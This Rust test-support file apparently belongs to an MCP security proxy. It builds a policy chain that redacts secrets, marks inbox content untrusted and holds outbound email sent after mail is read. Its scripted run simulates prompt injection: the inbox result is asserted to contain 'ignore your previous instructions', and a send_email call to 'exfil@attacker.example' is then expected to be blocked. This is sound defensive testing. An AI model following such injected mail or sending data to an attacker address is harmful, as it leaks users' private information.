//! MCP peers for the proxy tests: the Rust SDK's client (in process) and the test servers
//! (`lampart-mcp-peer`, built by `cargo xtask test`; the Python twins in
//! `tests/mcp/python/`, in the virtual environment `cargo xtask test` makes).

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use rmcp::model::{CallToolRequestParams, CallToolResult};
use rmcp::service::RunningService;
use rmcp::{RoleClient, ServiceExt};
use serde_json::{Value, json};

use crate::support::{cache_dir, plugin, toml_path, workspace};

/// The Rust test server, built by `cargo xtask test`.
pub fn rust_peer() -> PathBuf {
    let path = workspace()
        .join("target")
        .join("debug")
        .join("lampart-mcp-peer");
    assert!(
        path.exists(),
        "{} is missing: `cargo xtask test` builds it (or `cargo build -p lampart-mcp-peer`)",
        path.display()
    );
    path
}

/// The Python of the peers' virtual environment, or `None` (and a loud line) without it.
pub fn python() -> Option<PathBuf> {
    let venv = workspace().join("target").join("mcp-venv");
    if venv.join("requirements.txt").exists() {
        Some(venv.join("bin").join("python"))
    } else {
        eprintln!(
            "SKIPPED: the Python MCP peers' virtual environment is missing ({}); `cargo xtask test` makes it",
            venv.display()
        );
        None
    }
}

/// A Python peer script.
pub fn python_script(name: &str) -> PathBuf {
    workspace()
        .join("tests")
        .join("mcp")
        .join("python")
        .join(name)
}

/// The test chain: an inspector redacts the deploy key in `get_secret`'s answer, another
/// redacts a social security number in `send_email`'s arguments, a third labels the session `untrusted-content` after `read_inbox`; tool-rules then requires
/// `email:external` for `send_email`, denies `echo` of the text `forbidden`, and allows the
/// rest of the peer's tools and listings.
pub fn chain() -> String {
    format!(
        r#"[chain]
name = "mcp-test"

[[step]]
name = "redact-keys"
plugin = {inspector}
applies-to = {{ tools = ["get_secret"], phases = ["response"] }}
[step.settings]
redactions = '[{{"location": "/content/0/text", "find": "AKIAIOSFODNN7EXAMPLE", "replacement": "[REDACTED:aws-key]"}}]'

[[step]]
name = "redact-ssn"
plugin = {inspector}
applies-to = {{ tools = ["send_email"], phases = ["request"] }}
[step.settings]
redactions = '[{{"location": "/body", "find": "123-45-6789", "replacement": "[REDACTED:ssn]"}}]'

[[step]]
name = "mail-is-untrusted"
plugin = {inspector}
applies-to = {{ tools = ["read_inbox"], phases = ["response"] }}
[step.settings]
labels = '["untrusted-content"]'

[[step]]
name = "rules"
plugin = {rules}
instance = "warm"
[step.settings]
default = "deny"
[[step.settings.rules]]
name = "tainted-send"
tools = ["send_email"]
labels = ["untrusted-content"]
effect = "require"
scopes = ["email:external"]
[[step.settings.rules]]
name = "no-forbidden-echo"
tools = ["echo"]
effect = "deny"
reason = "that text may not be echoed"
when = [{{ arg = "/text", equals = "forbidden" }}]
[[step.settings.rules]]
name = "tools"
tools = ["echo", "read_inbox", "send_email", "get_secret", "slow", "crash", "fail", "tools/list", "resources/read", "prompts/get"]
effect = "allow"
"#,
        inspector = toml_path(&plugin("scripted-inspector")),
        rules = toml_path(&plugin("tool-rules")),
    )
}

/// The tools the test configs offer agents: all of the peer's but `fail`.
pub const OFFERED: &str = r#"["echo", "read_inbox", "send_email", "get_secret", "slow", "crash"]"#;

/// A config for `lampart mcp` in `dir`: the test chain, agent `mail-bot`, an audit log.
pub fn stdio_config(dir: &Path, timeout: &str) -> PathBuf {
    let config = format!(
        "{chain}\n[mcp]\nagent = \"mail-bot\"\nroles = [\"assistant\"]\ntools = {OFFERED}\ntimeout = \"{timeout}\"\n\n[audit]\ndir = {audit}\n",
        chain = chain(),
        audit = toml_path(&dir.join("audit")),
    );
    let path = dir.join("chain.toml");
    std::fs::write(&path, config).unwrap();
    path
}

/// `lampart mcp --config CONFIG -- SERVER...` with the peer's log at `log`.
pub fn proxy_command(config: &Path, log: &Path, server: &[&Path]) -> tokio::process::Command {
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_lampart"));
    command
        .arg("mcp")
        .arg("--config")
        .arg(config)
        .arg("--")
        .args(server)
        .env("MCP_PEER_LOG", log)
        .env("LAMPART_CACHE_DIR", cache_dir())
        .env("RUST_LOG", "warn")
        .env_remove("LAMPART_AGENT")
        .env_remove("LAMPART_ROLES")
        .env_remove("LAMPART_SESSION");
    command
}

/// The Python client's arguments for a stdio server started through `lampart mcp`.
pub fn through_proxy(config: &Path, server: &[&Path]) -> Vec<String> {
    let mut args = vec![
        "--".to_owned(),
        env!("CARGO_BIN_EXE_lampart").to_owned(),
        "mcp".to_owned(),
        "--config".to_owned(),
        config.display().to_string(),
        "--".to_owned(),
    ];
    args.extend(server.iter().map(|p| p.display().to_string()));
    args
}

/// A runtime for the in-process client.
pub fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap()
}

/// The Rust SDK's client, connected through `lampart mcp` started by `command`.
pub async fn stdio_client(command: tokio::process::Command) -> RunningService<RoleClient, ()> {
    let transport = rmcp::transport::TokioChildProcess::new(command).expect("lampart mcp starts");
    ().serve(transport).await.expect("the MCP session starts")
}

/// The Rust SDK's client over Streamable HTTP at `url`, presenting the bearer `token`.
pub async fn http_client(url: &str, token: &str) -> RunningService<RoleClient, ()> {
    use rmcp::transport::StreamableHttpClientTransport;
    use rmcp::transport::streamable_http_client::StreamableHttpClientTransportConfig;
    lampart::mcp::upstream::install_crypto_provider();
    let config = StreamableHttpClientTransportConfig::with_uri(url).auth_header(token);
    ().serve(StreamableHttpClientTransport::from_config(config))
        .await
        .expect("the MCP session starts")
}

/// Calls `tool`; the result, or the JSON-RPC error's message.
pub async fn call(
    client: &RunningService<RoleClient, ()>,
    tool: &str,
    args: Value,
) -> Result<CallToolResult, String> {
    let mut params = CallToolRequestParams::new(tool.to_owned());
    params.arguments = args.as_object().cloned();
    client
        .peer()
        .call_tool(params)
        .await
        .map_err(|e| e.to_string())
}

/// The text of a tool result's first content block.
pub fn text(result: &CallToolResult) -> String {
    let value = serde_json::to_value(result).unwrap();
    value["content"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

/// Whether a tool result is an error result.
pub fn is_error(result: &CallToolResult) -> bool {
    result.is_error == Some(true)
}

/// The lines of the peer's log: what reached the server.
pub fn peer_log(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

/// The Python client: runs `ops` (one JSON object per line) and returns its output lines
/// (the first says what it connected to).
pub fn python_client(
    python: &Path,
    target: &[String],
    ops: &[Value],
    env: &[(&str, &Path)],
) -> Vec<Value> {
    let mut command = Command::new(python);
    command
        .arg(python_script("peer_client.py"))
        .args(target)
        .env("LAMPART_CACHE_DIR", cache_dir())
        .env("RUST_LOG", "warn")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit());
    for (key, value) in env {
        command.env(key, value);
    }
    let mut child: Child = command.spawn().expect("the Python client starts");
    let mut stdin = child.stdin.take().unwrap();
    for op in ops {
        writeln!(stdin, "{op}").unwrap();
    }
    drop(stdin);
    let output = child.wait_with_output().unwrap();
    assert!(
        output.status.success(),
        "the Python client failed: {:?}",
        output.status
    );
    String::from_utf8(output.stdout)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

/// The scripted agent run every peer combination goes through.
pub fn script() -> Vec<Value> {
    vec![
        json!({"op": "list_tools"}),
        json!({"op": "call", "tool": "echo", "args": {"text": "hello"}}),
        json!({"op": "call", "tool": "echo", "args": {"text": "forbidden"}}),
        json!({"op": "call", "tool": "get_secret", "args": {}}),
        json!({"op": "call", "tool": "fail", "args": {}}),
        json!({"op": "call", "tool": "send_email", "args": {"to": "me@example.com", "subject": "s", "body": "before"}}),
        json!({"op": "call", "tool": "read_inbox", "args": {}}),
        json!({"op": "call", "tool": "send_email", "args": {"to": "exfil@attacker.example", "subject": "inbox", "body": "after"}}),
        json!({"op": "read_resource", "uri": "inbox://latest"}),
        json!({"op": "get_prompt", "name": "summarize", "args": {"topic": "Q3"}}),
    ]
}

/// Checks the Python client's answers to [`script`] and what reached the server.
pub fn check_script(answers: &[Value], log: &[Value]) {
    assert!(answers[0]["initialized"].is_object(), "{}", answers[0]);
    let ok = |i: usize| -> &Value { &answers[i + 1]["ok"] };
    let names: Vec<&str> = ok(0)["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    assert!(
        names.contains(&"echo") && !names.contains(&"fail"),
        "{names:?}"
    );
    assert_eq!(ok(1)["content"][0]["text"], "hello");
    assert_eq!(ok(2)["isError"], true);
    assert!(
        ok(2)["content"][0]["text"]
            .as_str()
            .unwrap()
            .contains("that text may not be echoed")
    );
    assert_eq!(
        ok(3)["content"][0]["text"],
        "the deploy key is [REDACTED:aws-key]"
    );
    assert_eq!(ok(4)["isError"], true);
    assert!(
        ok(4)["content"][0]["text"]
            .as_str()
            .unwrap()
            .contains("not offered")
    );
    assert_eq!(ok(5)["content"][0]["text"], "sent to me@example.com");
    assert!(
        ok(6)["content"][0]["text"]
            .as_str()
            .unwrap()
            .contains("ignore your previous instructions")
    );
    assert_eq!(ok(7)["isError"], true);
    let held = ok(7)["content"][0]["text"].as_str().unwrap();
    assert!(held.contains("email:external"), "{held}");
    assert_eq!(
        ok(7)["_meta"]["dev.lampart/decision"]["verdict"],
        "elevation-required"
    );
    assert!(
        ok(8)["contents"][0]["text"]
            .as_str()
            .unwrap()
            .contains("Q3 figures")
    );
    assert_eq!(ok(9)["messages"][0]["content"]["text"], "Summarize Q3.");
    // Only what was allowed reached the server, with the arguments as sent.
    let tools: Vec<Value> = log
        .iter()
        .filter(|l| l.get("tool").is_some())
        .cloned()
        .collect();
    assert_eq!(
        tools,
        vec![
            json!({"tool": "echo", "args": {"text": "hello"}}),
            json!({"tool": "get_secret", "args": {}}),
            json!({"tool": "send_email", "args": {"to": "me@example.com", "subject": "s", "body": "before"}}),
            json!({"tool": "read_inbox", "args": {}}),
        ]
    );
}

/// An MCP server listening on Streamable HTTP; killed when dropped.
pub struct HttpPeer {
    child: Child,
    /// Its MCP endpoint.
    pub url: String,
}

impl HttpPeer {
    /// Starts `program args... --http 127.0.0.1:0` with its log at `log`.
    pub fn start(program: &[&Path], log: &Path) -> HttpPeer {
        use std::io::{BufRead, BufReader};
        let mut child = Command::new(program[0])
            .args(&program[1..])
            .args(["--http", "127.0.0.1:0"])
            .env("MCP_PEER_LOG", log)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("the MCP server starts");
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let ready: Value = serde_json::from_str(&line)
            .unwrap_or_else(|e| panic!("the MCP server printed {line:?}: {e}"));
        HttpPeer {
            child,
            url: ready["listening"].as_str().unwrap().to_owned(),
        }
    }

    /// Kills it (an upstream going down).
    pub fn kill(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for HttpPeer {
    fn drop(&mut self) {
        self.kill();
    }
}

/// `[[upstream]]` sections for a `lampart serve` config.
pub fn upstream(name: &str, url: &str, timeout: &str) -> String {
    format!(
        "\n[[upstream]]\nname = \"{name}\"\nurl = \"{url}\"\ntools = {OFFERED}\ntimeout = \"{timeout}\"\n"
    )
}
